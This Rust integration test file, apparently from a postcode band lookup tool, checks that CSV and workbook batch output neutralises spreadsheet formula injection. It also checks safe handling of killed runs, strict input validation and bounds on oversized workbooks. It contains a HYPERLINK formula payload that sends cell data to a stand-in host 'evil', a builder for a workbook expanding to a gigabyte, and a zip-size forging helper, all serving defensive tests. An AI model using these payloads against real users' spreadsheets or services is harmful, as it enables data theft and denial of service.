//! Issue 18, items 3, 4 and 7 and item 2's workbook bounds: batch output a spreadsheet cannot
//! run (every formula prefix, CSV and `.xlsx` input, library, CLI and HTTP); formula text is
//! never a query; a stopped batch never leaves output that looks complete (kill-mid-batch
//! through the built binary); strict small inputs (dates, UTF-16, delimiters, duplicate JSON
//! keys, content types); workbooks bounded before they are read.
//!
//! Expected cells are worked out from the input by the OWASP rule (a `'` in front of text
//! that starts with `= + - @`, tab or CR), not copied from an output; every cell of every
//! output is also checked with a second, independent test of its first character.

use std::fmt::Write as _;
use std::io::{Cursor, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use actix_web::http::StatusCode;
use actix_web::http::header;
use actix_web::test as web_test;

use careband::batch::{self, BatchError, BatchOptions, InputFormat, MAX_RECORD_BYTES, XlsxLimits};
use careband::server;

use crate::common::cli::careband_in;
use crate::common::http::{Reply, get, send, state};
use crate::common::{DATASET, date};

const ON: &str = "2019-06-01";

/// The six characters OWASP lists.
const PREFIXES: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The hostile cell of the issue.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil/?\"&A2,\"NR1 1AA\")";

/// A cell a spreadsheet would run, tested without the library's function: its first
/// character is one of the six, and it is not made only of a sign, digits, one separator and
/// an exponent.
fn runnable(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    let number = cell
        .trim_start_matches(['+', '-'])
        .replace(',', ".")
        .parse::<f64>()
        .is_ok_and(f64::is_finite)
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || "+-.,eE".contains(c));
    PREFIXES.contains(&first) && !number
}

/// Every record of a CSV output, header first.
fn records(out: &[u8]) -> Vec<Vec<String>> {
    let body = out.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(out);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn column(recs: &[Vec<String>], name: &str) -> usize {
    recs[0].iter().position(|h| h == name).unwrap()
}

/// Asserts that no cell of the output would run in a spreadsheet.
fn assert_no_runnable_cell(recs: &[Vec<String>]) {
    for (i, r) in recs.iter().enumerate() {
        for c in r {
            assert!(!runnable(c), "record {i}: cell {c:?} would run: {r:?}");
        }
    }
}

/// Rows: a note cell and a postcode cell starting with each prefix, then a row with numbers
/// that must stay numbers. Columns: `=cmd` (a hostile header), `note`, `postcode`, `lon`.
fn hostile_rows() -> Vec<[String; 4]> {
    let mut rows = Vec::new();
    for p in PREFIXES {
        rows.push([
            "x".to_string(),
            format!("{p}1+1"),
            match p {
                '=' => HYPERLINK.to_string(),
                // A tab or CR first is trimmed away before reading; what follows is the formula.
                '\t' | '\r' => format!("{p}{HYPERLINK}"),
                _ => format!("{p}HYPERLINK(\"http://evil/\",\"NR1 1AA\")"),
            },
            "1.3".to_string(),
        ]);
    }
    rows.push([
        "-1.29".into(),
        "+44".into(),
        "NR1 1AA".into(),
        "-1.29".into(),
    ]);
    rows
}

fn hostile_csv() -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["=cmd", "note", "postcode", "lon"]).unwrap();
    for r in hostile_rows() {
        w.write_record(&r).unwrap();
    }
    w.into_inner().unwrap()
}

/// What the OWASP rule makes of an input cell.
fn neutralised(cell: &str) -> String {
    if runnable(cell) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// Checks the output of the hostile rows (from CSV or a workbook, any entry point).
fn check_hostile_output(out: &[u8]) {
    let recs = records(out);
    assert_no_runnable_cell(&recs);
    assert_eq!(recs[0][0], "'=cmd", "the header is written safely too");
    let (status, used, error) = (
        column(&recs, "status"),
        column(&recs, "query_used"),
        column(&recs, "error"),
    );
    let rows = hostile_rows();
    assert_eq!(recs.len(), rows.len() + 1);
    for (rec, row) in recs[1..].iter().zip(&rows) {
        for i in 0..4 {
            assert_eq!(rec[i], neutralised(&row[i]), "{row:?}");
        }
        if row[2] == "NR1 1AA" {
            assert_eq!(rec[status], "answered", "{rec:?}");
            // Numbers stay numbers.
            assert_eq!(rec[0], "-1.29");
            assert_eq!(rec[3], "-1.29");
            assert_eq!(rec[1], "+44");
        } else {
            // A formula in the postcode cell is never read as NR1 1AA, whatever its prefix
            // (a tab or CR first is trimmed, then the formula is refused).
            assert_eq!(rec[status], "bad_input", "{rec:?}");
            assert!(rec[error].contains("formula"), "{rec:?}");
            assert!(
                !rec[used].contains("NR1 1AA") || rec[used].starts_with('\''),
                "{rec:?}"
            );
            assert_eq!(rec[column(&recs, "band")], "", "{rec:?}");
        }
    }
}

#[test]
fn formula_cells_are_neutralised_in_csv_output_for_every_prefix() {
    let mut out = Vec::new();
    batch::run(
        &hostile_csv()[..],
        InputFormat::Csv,
        &mut out,
        &BatchOptions::new(date(ON)),
        &DATASET,
        &|_| {},
    )
    .unwrap();
    check_hostile_output(&out);
    // The same with --excel.
    let mut o = BatchOptions::new(date(ON));
    o.excel = true;
    let mut excel = Vec::new();
    batch::run(
        &hostile_csv()[..],
        InputFormat::Csv,
        &mut excel,
        &o,
        &DATASET,
        &|_| {},
    )
    .unwrap();
    check_hostile_output(&excel);
}

/// A point in one address cell starting with a minus sign is still read as a point, and its
/// `query_used` is written safely.
#[test]
fn a_negative_coordinate_is_a_point_and_is_written_safely() {
    let input = b"address\n\"-1.29, 52.63\"\n\"52.63, -1.29\"\n";
    let mut out = Vec::new();
    batch::run(
        &input[..],
        InputFormat::Csv,
        &mut out,
        &BatchOptions::new(date(ON)),
        &DATASET,
        &|_| {},
    )
    .unwrap();
    let recs = records(&out);
    assert_no_runnable_cell(&recs);
    let (status, error) = (column(&recs, "status"), column(&recs, "error"));
    assert_eq!(recs[1][0], "'-1.29, 52.63");
    for r in &recs[1..] {
        // A point far from every scheme: read as a point, so outside coverage, not bad input.
        assert_eq!(r[status], "outside_coverage", "{r:?}");
        assert!(!r[error].contains("formula"), "{r:?}");
    }
}

fn hostile_xlsx(path: &Path) {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["=cmd", "note", "postcode", "lon"].iter().enumerate() {
        sheet
            .write_string(0, u16::try_from(c).unwrap(), *h)
            .unwrap();
    }
    for (r, row) in hostile_rows().iter().enumerate() {
        let r = u32::try_from(r + 1).unwrap();
        for (c, cell) in row.iter().enumerate() {
            let c = u16::try_from(c).unwrap();
            // The last row's numbers are numeric cells; everything else is text.
            match cell.parse::<f64>() {
                Ok(n) if c != 1 => sheet.write_number(r, c, n).unwrap(),
                _ => sheet.write_string(r, c, cell).unwrap(),
            };
        }
    }
    book.save(path).unwrap();
}

#[test]
fn formula_cells_of_an_xlsx_input_are_neutralised_for_every_prefix() {
    use calamine::Reader as _;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("in.xlsx");
    hostile_xlsx(&path);
    // The workbook really holds the hostile texts as text cells (read back with calamine).
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&path).unwrap();
    let range = wb.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(range.get((1, 2)).unwrap().to_string(), HYPERLINK);
    assert_eq!(range.get((6, 1)).unwrap().to_string(), "\r1+1");
    assert!(matches!(
        range.get((7, 3)),
        Some(calamine::Data::Float(f)) if (*f + 1.29).abs() < 1e-12
    ));
    let mut out = Vec::new();
    batch::run_xlsx(
        std::io::BufReader::new(std::fs::File::open(&path).unwrap()),
        &mut out,
        &BatchOptions::new(date(ON)),
        &DATASET,
        &|_| {},
    )
    .unwrap();
    check_hostile_output(&out);
}

#[test]
fn the_cli_writes_formula_cells_safely_and_refuses_a_formula_query() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("in.csv"), hostile_csv()).unwrap();
    let o = careband_in(d, &["batch", "in.csv", "-o", "out.csv", "--date", ON]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    check_hostile_output(&std::fs::read(d.join("out.csv")).unwrap());
    let hostile = dir.path().join("in.xlsx");
    hostile_xlsx(&hostile);
    let o = careband_in(
        d,
        &["batch", "in.xlsx", "-o", "x.csv", "--excel", "--date", ON],
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    check_hostile_output(&std::fs::read(d.join("x.csv")).unwrap());

    for q in [HYPERLINK, "@NR1 1AA", "+NR1 1AA", "=NR1 1AA"] {
        let o = careband_in(d, &["lookup", q, "--date", ON]);
        assert_eq!(o.code, 2, "{q}: {}", o.stdout);
        assert!(o.stderr.contains("formula"), "{q}: {}", o.stderr);
        assert!(!o.stdout.contains("Band"), "{q}: {}", o.stdout);
    }
}

async fn post(uri: &str, content_type: Option<&str>, body: Vec<u8>) -> Reply {
    let app = web_test::init_service(server::app(state())).await;
    let mut req = web_test::TestRequest::post().uri(uri).set_payload(body);
    if let Some(t) = content_type {
        req = req.insert_header((header::CONTENT_TYPE, t));
    }
    send(&app, req.to_request()).await
}

#[actix_web::test]
async fn http_batch_output_is_safe_and_a_formula_query_is_refused() {
    for q in ["", "&excel=true"] {
        let r = post(
            &format!("/v1/batch?date={ON}{q}"),
            Some("text/csv"),
            hostile_csv(),
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        check_hostile_output(&r.body);
    }
    let enc = |s: &str| -> String {
        s.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    char::from(b).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    };
    for q in [HYPERLINK, "@NR1 1AA", "\t=NR1 1AA", "-NR1 1AA"] {
        let r = get(&format!("/v1/lookup?q={}&date={ON}", enc(q))).await;
        r.error(StatusCode::BAD_REQUEST, "formula_text");
        let r = get(&format!("/v1/lookup?postcode={}&date={ON}", enc(q))).await;
        r.error(StatusCode::BAD_REQUEST, "formula_text");
    }
    // A negative coordinate typed as text is a point.
    let r = get(&format!("/v1/lookup?q={}&date={ON}", enc("52.63, -1.29"))).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["kind"], "point");
}

// ---- Stopped runs: the built binary, killed ----

/// The temporary files in `dir`.
fn temps(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".careband-batch-"))
        .collect()
}

/// A CSV of `n` rows of real postcodes, large enough that a run takes seconds.
fn big_input(n: usize) -> Vec<u8> {
    let records = DATASET.postcodes.records();
    let mut s = String::from("id,postcode\n");
    for i in 0..n {
        let _ = writeln!(
            s,
            "{i},{}",
            records[(i * 7919) % records.len()].postcode.as_str()
        );
    }
    s.into_bytes()
}

/// Starts `careband batch in.csv -o out.csv` in `dir`.
fn start_batch(dir: &Path) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_careband"))
        .args(["batch", "in.csv", "-o", "out.csv", "--date", ON])
        .current_dir(dir)
        .env_remove("CAREBAND_DATA")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits until the run has written part of its output (its temporary file holds bytes), so
/// the kill lands mid-batch; false if the run ended first.
fn wait_mid_batch(dir: &Path, child: &mut std::process::Child) -> bool {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(60) {
        if child.try_wait().unwrap().is_some() {
            return false;
        }
        let written = temps(dir)
            .iter()
            .any(|n| std::fs::metadata(dir.join(n)).is_ok_and(|m| m.len() > 0));
        if written {
            return true;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    panic!("the run wrote nothing in 60 s");
}

fn signal(child: &std::process::Child, name: &str) {
    let ok = Command::new("kill")
        .args([&format!("-{name}"), &child.id().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill -{name}");
}

#[test]
fn a_batch_killed_mid_run_leaves_no_output_that_looks_complete() {
    let rows = 300_000;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("in.csv"), big_input(rows)).unwrap();

    // SIGTERM and SIGINT, before the output is begun and part way through it.
    for (name, code, mid) in [
        ("TERM", 143, false),
        ("INT", 130, true),
        ("TERM", 143, true),
        ("HUP", 129, true),
    ] {
        let mut child = start_batch(d);
        let landed_mid = if mid {
            wait_mid_batch(d, &mut child)
        } else {
            std::thread::sleep(Duration::from_millis(100));
            true
        };
        signal(&child, name);
        let out = child.wait_with_output().unwrap();
        if landed_mid {
            assert_eq!(out.status.code(), Some(code), "SIG{name}: {out:?}");
            assert!(!d.join("out.csv").exists(), "SIG{name}: no output");
        } else {
            assert_eq!(out.status.code(), Some(0), "finished before SIG{name}");
        }
        assert_eq!(
            temps(d),
            Vec::<String>::new(),
            "SIG{name}: temporary file removed"
        );
    }

    // SIGKILL cannot be caught: the temporary file stays (hidden), no output appears, and the
    // next run for the same output removes it and writes the whole output.
    let mut child = start_batch(d);
    assert!(
        wait_mid_batch(d, &mut child),
        "the run ended before the kill"
    );
    signal(&child, "KILL");
    child.wait().unwrap();
    assert!(
        !d.join("out.csv").exists(),
        "no output under the final name"
    );
    let left = temps(d);
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].starts_with(".careband-batch-out.csv-"), "{left:?}");
    std::fs::write(d.join("small.csv"), "postcode\nNR1 1AA\n").unwrap();
    let o = careband_in(d, &["batch", "small.csv", "-o", "out.csv", "--date", ON]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        temps(d),
        Vec::<String>::new(),
        "the killed run's file is removed"
    );
    assert_eq!(records(&std::fs::read(d.join("out.csv")).unwrap()).len(), 2);
}

#[test]
fn standard_output_to_a_file_is_refused_and_a_pipe_still_works() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("in.csv"), "postcode\nNR1 1AA\n").unwrap();
    let file = std::fs::File::create(d.join("out.csv")).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_careband"))
        .args(["batch", "in.csv", "--date", ON])
        .current_dir(d)
        .env_remove("CAREBAND_DATA")
        .stdout(file)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("-o FILE"), "{stderr}");
    assert_eq!(
        std::fs::read(d.join("out.csv")).unwrap(),
        b"",
        "nothing written"
    );
    let o = careband_in(d, &["batch", "in.csv", "--date", ON]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(records(o.stdout.as_bytes()).len(), 2);
}

#[test]
fn an_unwritable_summary_path_fails_the_run_before_it_starts() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("in.csv"), "postcode\nNR1 1AA\n").unwrap();
    let o = careband_in(
        d,
        &[
            "batch",
            "in.csv",
            "-o",
            "out.csv",
            "--summary-json",
            "no/such/dir/s.json",
        ],
    );
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(o.stderr.contains("no/such/dir"), "{}", o.stderr);
    assert!(
        !o.stderr.contains("rows read"),
        "the run never started: {}",
        o.stderr
    );
    assert!(!d.join("out.csv").exists());
    assert_eq!(temps(d), Vec::<String>::new());
    // A writable one is written whole beside the output, and no temporary file stays.
    let o = careband_in(
        d,
        &[
            "batch",
            "in.csv",
            "-o",
            "out.csv",
            "--summary-json",
            "s.json",
        ],
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(d.join("s.json")).unwrap()).unwrap();
    assert_eq!(json["rows"], 1);
    assert_eq!(temps(d), Vec::<String>::new());
}

// ---- Strict small inputs ----

#[actix_web::test]
async fn loose_dates_are_refused_everywhere_and_the_range_ends_are_accepted() {
    let bad = [
        "0000-01-01",
        "-2019-01-01",
        "2019-6-1",
        "+2019-06-01",
        "2101-01-01",
        "1989-12-31",
    ];
    for d in bad {
        let r = get(&format!(
            "/v1/lookup?postcode=NR1%201AA&date={}",
            d.replace('+', "%2B")
        ))
        .await;
        r.error(StatusCode::BAD_REQUEST, "bad_date");
        let r = get(&format!(
            "/v1/schemes/norfolk/bands.geojson?date={}",
            d.replace('+', "%2B")
        ))
        .await;
        r.error(StatusCode::BAD_REQUEST, "bad_date");
        let r = post(
            &format!("/v1/batch?date={}", d.replace('+', "%2B")),
            Some("text/csv"),
            b"postcode\nNR1 1AA\n".to_vec(),
        )
        .await;
        r.error(StatusCode::BAD_REQUEST, "bad_date");
        let r = post(
            "/v1/lookup",
            Some("application/json"),
            serde_json::to_vec(&serde_json::json!([{"postcode": "NR1 1AA", "date": d}])).unwrap(),
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        assert_eq!(r.json()["results"][0]["error"]["code"], "bad_date", "{d}");
    }
    for d in ["1990-01-01", "2100-12-31", ON] {
        let r = get(&format!("/v1/lookup?postcode=NR1%201AA&date={d}")).await;
        assert_eq!(r.status, StatusCode::OK, "{d}: {}", r.text());
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("in.csv"), "postcode\nNR1 1AA\n").unwrap();
    for d in ["2019-6-1", "0000-01-01"] {
        let o = careband_in(dir.path(), &["lookup", "NR1 1AA", "--date", d]);
        assert_eq!(o.code, 2, "{d}");
        assert!(
            o.stderr.contains("YYYY-MM-DD") || o.stderr.contains("1990-01-01"),
            "{}",
            o.stderr
        );
        let o = careband_in(dir.path(), &["batch", "in.csv", "--date", d]);
        assert_eq!(o.code, 2, "{d}");
    }
}

#[actix_web::test]
async fn utf16_without_a_byte_order_mark_is_a_415_not_rows_of_bad_input() {
    let text = "postcode\nNR1 1AA\nNR2 1AA\n";
    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for body in [le, be] {
        let r = post("/v1/batch", Some("text/csv"), body.clone()).await;
        let e = r.error(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported_media_type");
        assert!(e["message"].as_str().unwrap().contains("UTF-16"), "{e}");
        let err = batch::run(
            &body[..],
            InputFormat::Csv,
            Vec::new(),
            &BatchOptions::new(date(ON)),
            &DATASET,
            &|_| {},
        )
        .unwrap_err();
        assert!(matches!(err, BatchError::Utf16), "{err}");
    }
}

/// A record of exactly `len` bytes (its line end not counted) in one of four shapes: one
/// field, many short fields, one quoted field with doubled quotes in it, or one field ended
/// by CRLF. The header has as many columns as the record has fields.
fn record_of(len: usize, shape: usize) -> (Vec<u8>, usize) {
    let (header, record, end): (String, Vec<u8>, &[u8]) = match shape {
        0 => ("postcode".into(), vec![b'x'; len], b"\n"),
        1 => {
            // Fields of 63 bytes and their commas.
            let mut r = [&[b'x'; 63][..], b","].concat().repeat(len.div_ceil(64));
            r.truncate(len);
            let fields = memchr::memchr_iter(b',', &r).count() + 1;
            let mut h = vec!["postcode".to_string()];
            h.extend((1..fields).map(|i| format!("c{i}")));
            (h.join(","), r, b"\n")
        }
        2 => {
            let mut r = b"\"".to_vec();
            while r.len() < len - 1 {
                r.extend_from_slice(if r.len() + 2 < len { b"\"\"" } else { b"x" });
            }
            r.push(b'"');
            ("postcode".into(), r, b"\n")
        }
        _ => ("postcode".into(), vec![b'x'; len], b"\r\n"),
    };
    let width = header.split(',').count();
    let mut input = format!("{header}\n").into_bytes();
    assert_eq!(record.len(), len, "shape {shape}");
    input.extend_from_slice(&record);
    input.extend_from_slice(end);
    input.extend_from_slice(b"NR1 1AA\n");
    (input, width)
}

#[test]
fn the_record_cap_is_exact() {
    for (len, shape, too_long) in [
        (MAX_RECORD_BYTES - 1, 0, false),
        (MAX_RECORD_BYTES, 0, false),
        (MAX_RECORD_BYTES + 1, 0, true),
        (MAX_RECORD_BYTES + 24_495, 0, true),
        (MAX_RECORD_BYTES - 1, 1, false),
        (MAX_RECORD_BYTES + 1, 1, true),
        (MAX_RECORD_BYTES, 2, false),
        (MAX_RECORD_BYTES + 1, 2, true),
        (MAX_RECORD_BYTES, 3, false),
        (MAX_RECORD_BYTES + 1, 3, true),
    ] {
        let (input, width) = record_of(len, shape);
        let mut out = Vec::new();
        let s = batch::run(
            &input[..],
            InputFormat::Csv,
            &mut out,
            &BatchOptions::new(date(ON)),
            &DATASET,
            &|_| {},
        )
        .unwrap();
        assert_eq!(s.rows, 2, "{len} {shape}");
        let recs = records(&out);
        let error = column(&recs, "error");
        assert_eq!(
            recs[1][error].contains("byte limit"),
            too_long,
            "{len} {shape}: {}",
            recs[1][error]
        );
        if too_long {
            assert!(
                recs[1][..width].iter().all(String::is_empty),
                "{len} {shape}"
            );
        } else {
            assert!(
                !recs[1][0].is_empty(),
                "{len} {shape}: the fields are copied"
            );
        }
        assert_eq!(recs[2][column(&recs, "status")], "answered");
    }
}

#[actix_web::test]
async fn delimiters_outside_the_closed_set_are_refused() {
    for d in ["%00", "a", "%22", "%0A", "%20", ":"] {
        let r = post(
            &format!("/v1/batch?delimiter={d}"),
            Some("text/csv"),
            b"postcode\nNR1 1AA\n".to_vec(),
        )
        .await;
        let e = r.error(StatusCode::BAD_REQUEST, "bad_parameter");
        assert_eq!(e["field"], "delimiter");
    }
    for d in ["%2C", "%3B", "tab", "%7C"] {
        let r = post(
            &format!("/v1/batch?delimiter={d}&date={ON}"),
            Some("text/csv"),
            b"postcode\nNR1 1AA\n".to_vec(),
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{d}: {}", r.text());
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("in.csv"), "postcode\nNR1 1AA\n").unwrap();
    let o = careband_in(dir.path(), &["batch", "in.csv", "--delimiter", "x"]);
    assert_eq!(o.code, 2);
    assert!(o.stderr.contains("tab"), "{}", o.stderr);
}

#[actix_web::test]
async fn a_json_body_naming_a_key_twice_is_refused() {
    for body in [
        r#"[{"postcode": "NR1 1AA", "postcode": "BS1 4DJ"}]"#,
        r#"[{"postcode": "NR1 1AA"}, {"lat": 52.6, "lon": 1.3, "lat": 51.4}]"#,
        r#"[{"postcode": "NR1 1AA", "date": "2019-06-01", "date": "2018-06-01"}]"#,
    ] {
        let r = post("/v1/lookup", Some("application/json"), body.into()).await;
        let e = r.error(StatusCode::UNPROCESSABLE_ENTITY, "unprocessable");
        assert!(e["message"].as_str().unwrap().contains("twice"), "{e}");
    }
    let r = post(
        "/v1/lookup",
        Some("application/json"),
        br#"[{"postcode": "NR1 1AA"}, {"postcode": "NR1 1AA"}]"#.to_vec(),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
}

#[actix_web::test]
async fn the_batch_route_refuses_text_plain_and_names_the_accepted_types() {
    let r = post(
        "/v1/batch",
        Some("text/plain"),
        b"postcode\nNR1 1AA\n".to_vec(),
    )
    .await;
    let e = r.error(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported_media_type");
    let m = e["message"].as_str().unwrap();
    assert!(
        m.contains("text/csv") && m.contains("application/vnd.ms-excel"),
        "{m}"
    );
    let r = post(
        "/v1/batch",
        Some("text/plain; charset=utf-8"),
        b"postcode\n".to_vec(),
    )
    .await;
    r.error(StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported_media_type");
    let r = post(
        &format!("/v1/batch?date={ON}"),
        Some("text/csv"),
        b"postcode\nNR1 1AA\n".to_vec(),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
}

// ---- Workbook bounds ----

/// A workbook whose shared strings are `strings` copies of `<si><t>x</t></si>` (declaring
/// `declared` of them), written with the `zip` crate around a real workbook's other parts.
fn workbook_with_strings(strings: u64, declared: u64) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "postcode").unwrap();
    sheet.write_string(1, 0, "NR1 1AA").unwrap();
    let base = book.save_to_buffer().unwrap();
    let mut src = zip::ZipArchive::new(Cursor::new(base)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..src.len() {
        let f = src.by_index_raw(i).unwrap();
        if f.name().unwrap() != "xl/sharedStrings.xml" {
            out.raw_copy_file(f).unwrap();
        }
    }
    out.start_file(
        "xl/sharedStrings.xml",
        SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(9)),
    )
    .unwrap();
    write!(
        out,
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"{declared}\" uniqueCount=\"{declared}\"><si><t>postcode</t></si><si><t>NR1 1AA</t></si>"
    )
    .unwrap();
    let block = "<si><t>x</t></si>".repeat(4096);
    let mut left = strings.saturating_sub(2);
    while left > 0 {
        let n = usize::try_from(left.min(4096)).unwrap();
        out.write_all(&block.as_bytes()[..n * 17]).unwrap();
        left -= n as u64;
    }
    out.write_all(b"</sst>").unwrap();
    out.finish().unwrap().into_inner()
}

fn run_book(bytes: &[u8], limits: XlsxLimits) -> Result<Vec<u8>, BatchError> {
    let mut o = BatchOptions::new(date(ON));
    o.xlsx_limits = limits;
    let mut out = Vec::new();
    batch::run_xlsx(Cursor::new(bytes), &mut out, &o, &DATASET, &|_| {})?;
    Ok(out)
}

#[test]
fn a_small_workbook_that_expands_to_a_gigabyte_is_refused_before_it_is_read() {
    // 63 million strings, about 1 GiB of XML, in a file of a few MB.
    let strings = (1u64 << 30) / 17;
    let bytes = workbook_with_strings(strings, 2);
    assert!(bytes.len() < 4 << 20, "{} bytes", bytes.len());
    let started = Instant::now();
    let err = run_book(&bytes, XlsxLimits::default()).unwrap_err();
    assert!(matches!(err, BatchError::WorkbookTooLarge { .. }), "{err}");
    assert!(err.to_string().contains("once expanded"), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "refused without expanding it"
    );
}

#[test]
fn workbook_limits_count_declared_and_real_shared_strings() {
    let generous = XlsxLimits::default();
    // A small honest workbook is read.
    let ok = workbook_with_strings(2, 2);
    let out = run_book(&ok, generous).unwrap();
    assert_eq!(records(&out).len(), 2);
    // A declared count over the limit is refused (calamine would reserve that many).
    let lying = workbook_with_strings(2, 1_000_000_000_000);
    let err = run_book(&lying, generous).unwrap_err();
    assert!(err.to_string().contains("shared strings"), "{err}");
    // More strings than the limit, though fewer are declared, are refused too.
    let many = workbook_with_strings(5_000, 2);
    let tight = XlsxLimits {
        max_shared_strings: 4_999,
        ..generous
    };
    let err = run_book(&many, tight).unwrap_err();
    assert!(err.to_string().contains("5,000 shared strings"), "{err}");
    assert!(
        run_book(
            &many,
            XlsxLimits {
                max_shared_strings: 5_000,
                ..generous
            }
        )
        .is_ok()
    );
    // The size limit, with a byte to spare and a byte short.
    let size: u64 = {
        let mut z = zip::ZipArchive::new(Cursor::new(&many[..])).unwrap();
        (0..z.len())
            .map(|i| z.by_index_raw(i).unwrap().size())
            .sum()
    };
    let sized = |max_uncompressed_bytes| XlsxLimits {
        max_uncompressed_bytes,
        ..generous
    };
    assert!(run_book(&many, sized(size)).is_ok());
    let err = run_book(&many, sized(size - 1)).unwrap_err();
    assert!(matches!(err, BatchError::WorkbookTooLarge { .. }), "{err}");
}

#[test]
fn the_cli_refuses_a_workbook_over_its_limit_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("big.xlsx"), workbook_with_strings(5_000, 2)).unwrap();
    let o = careband_in(
        d,
        &[
            "batch",
            "big.xlsx",
            "-o",
            "out.csv",
            "--xlsx-max-shared-strings",
            "100",
        ],
    );
    assert_eq!(o.code, 2);
    assert!(o.stderr.contains("too large to read"), "{}", o.stderr);
    assert!(!d.join("out.csv").exists());
    let o = Command::new(env!("CARGO_BIN_EXE_careband"))
        .args(["batch", "big.xlsx", "-o", "out.csv"])
        .current_dir(d)
        .env_remove("CAREBAND_DATA")
        .env("CAREBAND_XLSX_MAX_BYTES", "1000")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("once expanded"));
    let o = careband_in(d, &["batch", "big.xlsx", "-o", "out.csv", "--date", ON]);
    assert_eq!(o.code, 0, "{}", o.stderr);
}

/// `bytes` with the uncompressed size its zip archive declares for the entry `part` set to
/// `declared`, in the central directory and in the entry's local header (APPNOTE 4.3.12 and
/// 4.3.7: offset 24 of a central directory header, 22 of a local header), the data left as is.
fn forge_size(bytes: &[u8], part: &str, declared: u32) -> Vec<u8> {
    let mut out = bytes.to_vec();
    let u16_at = |b: &[u8], i: usize| usize::from(u16::from_le_bytes([b[i], b[i + 1]]));
    let u32_at = |b: &[u8], i: usize| {
        usize::try_from(u32::from_le_bytes(b[i..i + 4].try_into().unwrap())).unwrap()
    };
    // The end of central directory record: its entry count at +10, the directory at +16.
    let eocd = (0..=out.len() - 22)
        .rev()
        .find(|&i| out[i..i + 4] == *b"PK\x05\x06")
        .unwrap();
    let mut at = u32_at(&out, eocd + 16);
    let mut patched = 0;
    for _ in 0..u16_at(&out, eocd + 10) {
        assert_eq!(&out[at..at + 4], b"PK\x01\x02");
        let name_len = u16_at(&out, at + 28);
        let skip = 46 + name_len + u16_at(&out, at + 30) + u16_at(&out, at + 32);
        if &out[at + 46..at + 46 + name_len] == part.as_bytes() {
            out[at + 24..at + 28].copy_from_slice(&declared.to_le_bytes());
            let local = u32_at(&out, at + 42);
            assert_eq!(&out[local..local + 4], b"PK\x03\x04");
            out[local + 22..local + 26].copy_from_slice(&declared.to_le_bytes());
            patched += 1;
        }
        at += skip;
    }
    assert_eq!(patched, 1, "{part} is in the archive once");
    out
}

/// The sum of the uncompressed sizes a workbook's archive declares, read by the zip crate.
